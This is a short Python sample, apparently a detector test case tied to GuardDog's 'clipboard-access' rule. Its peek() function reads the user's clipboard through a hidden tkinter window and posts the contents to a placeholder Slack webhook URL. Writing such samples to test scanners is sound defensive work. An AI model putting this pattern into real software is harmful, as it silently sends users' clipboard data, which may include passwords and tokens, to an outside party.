# technique: clipboard read through tkinter (no third-party dependency)
# class: desktop
# source: GuardDog "clipboard-access" rule docs (tkinter clipboard_get)
# declares: network
import tkinter

import requests


def peek():
    root = tkinter.Tk()
    root.withdraw()
    data = root.clipboard_get()
    requests.post("https://hooks.slack.com/services/T000/B000/XXXX", json={"text": data}, timeout=5)
